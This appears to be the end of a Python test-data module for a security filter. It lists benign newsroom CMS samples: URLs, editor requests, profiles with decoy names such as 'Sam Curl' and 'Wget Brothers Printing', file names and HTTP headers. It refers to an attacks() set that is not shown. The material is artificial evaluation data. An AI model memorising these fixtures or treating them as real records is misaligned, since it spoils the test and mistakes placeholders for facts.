    "https://ghost.example.org/ghost/#/editor/post/65f1c2a9e4b0",
    "https://app.contentful.com/spaces/abc123/entries/4xYz9",
    "https://www.example.org/wp-json/wp/v2/posts?per_page=5&_fields=id,title,link",
    "https://www.example.org/feed/",
    "https://www.youtube.com/embed/dQw4w9WgXcQ?start=42",
    "https://cms.example.org/typo3/module/web/layout?id=42",
    "https://forum.example.org/viewtopic.php?t=1234&start=20",
    "https://docs.example.org/doku.php?id=publishing:checklist",
    "https://www.example.org/wp-content/uploads/2024/06/hero-image-1200x630.jpg",
    "https://cms.example.org/umbraco#/content/content/edit/1105",
    "https://www.example.org/sitemap_index.xml",
]

PROSE = [
    "include the byline template on opinion pages",
    "page not found after the redirect from /2019/old-slug",
    "featured image missing on the sport landing page",
    "the gallery shortcode shows only three photos",
    "RSS feed for the culture section",
    "embed code for the election map",
    "who can edit the footer template",
    "export of subscribers to CSV",
    "newsletter template path changed after the theme update",
    "the file upload limit for podcast episodes is 64 MB",
    "scheduled post did not publish at 06:00",
    "broken link in the weather widget",
    "import the old blog comments",
    "the media library search does not find file names with spaces",
    "image resizer returns 502 for large PNG files",
    "page builder layout lost after plugin update",
    "restore the previous revision of the homepage",
    "the wiki page on redirects",
    "author bio not showing on AMP pages",
    "Markdown tables render as plain text",
    "editor role cannot upload SVG files",
    "the XML sitemap is missing the video pages",
    "comment form spam since Tuesday",
    "the template for live blogs, please",
    "path to the brand assets folder",
    "cat photos for the pets column",
    "backup of the staging database from last week",
    "Ghost member import failed on line 12",
    "the Strapi content type for recipes",
    "reset password for the night desk account",
]

PROFILES = [
    ("Maya Ortiz, Features desk", "Newsroom 3rd floor, London"),
    ("Tom Becker, Night editor", "Rudi-Dutschke-Str. 23, Berlin"),
    ("Aoife O'Connell", "Docklands, Dublin"),
    ("Ravi D'Souza, Web producer", "Bandra West, Mumbai"),
    ("Lena Fischer", "Page Street 12, San Francisco"),
    ("Carlos Template", "Rua das Flores 9, Porto"),
    ("Path & Co Design", "Canal St 4, Manchester"),
    ("Include Media Ltd", "Old Street 88, London"),
    ("The Daily Shortcode", "Main St 1, Springfield"),
    ("Sam Curl", "Harbour View 2, Sydney"),
    ("Wget Brothers Printing", "Industrial Rd 7, Leeds"),
    ("Jo Page, Audience team", "Mill Lane 5, Bristol"),
    ("Nina File", "Kungsgatan 30, Stockholm"),
    ("Echo Studios", "Sound Ave 11, Nashville"),
    ("Shell Garage Café", "Beach Rd 3, Brighton"),
    ("Priya Nair, Photo desk", "MG Road 14, Kochi"),
    ("Ghost Writers Agency", "Fleet St 101, London"),
    ("Ben Ping", "Orchard Rd 200, Singapore"),
    ("Drupal Camp Volunteers", "Congress Centre, Ghent"),
    ("Wiki Loves Monuments Team", "Via Roma 1, Turin"),
]

UPLOAD_NAMES = [
    "2024-06-01_parliament_vote_01.jpg", "hero-image@2x.jpg", "budget-chart-final (2).png",
    "wordpress.2024-06-01.xml", "subscribers-export.csv", "style-guide-v3.pdf", "podcast-ep42.mp3",
    "interview_raw_cut.mp4", "logo-dark.svg", "election-map-embed.html", "O'Connell-headshot.jpg",
    "redirects-2019-archive.csv", "ghost-content-export.json", "strapi-schema.json", "homepage-wireframe.fig",
    "weather icons.zip", "newsletter-template.html", "byline_template_notes.docx", "cat-of-the-week.gif",
    "sitemap-news.xml", "comments-import-blogger.xml", "theme-child-v2.zip", "contract_freelancer_2024.pdf",
    "Führungsteam Foto.jpg", "live-blog-screenshot 14.32.10.png",
]

BENIGN_HEADERS = [
    ("Referer", "https://cms.example.org/wp-admin/upload.php?mode=list"),
    ("Referer", "https://cms.example.org/node/1234/edit?destination=/admin/content"),
    ("Referer", "https://www.example.org/news/2024/06/01/budget-vote-live/?utm_source=newsletter"),
    ("Cookie", "wp-settings-1=libraryContent%3Dbrowse%26editor%3Dtinymce; wp-settings-time-1=1717000000"),
    ("Cookie", "session=abc123; editor_mode=markdown; section=features"),
    ("User-Agent", "WordPress/6.5.4; https://www.example.org"),
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "FeedFetcher-Google; (+http://www.google.com/feedfetcher.html)"),
    ("Accept-Language", "en-GB,en;q=0.9,de;q=0.7"),
    ("X-Requested-With", "XMLHttpRequest"),
    ("If-None-Match", "W/\"3c1e-18fd2a7b9c0\""),
    ("Cache-Control", "no-cache"),
    ("X-Forwarded-For", "198.51.100.23"),
    ("DNT", "1"),
    ("Accept", "application/rss+xml, application/atom+xml;q=0.9, */*;q=0.8"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
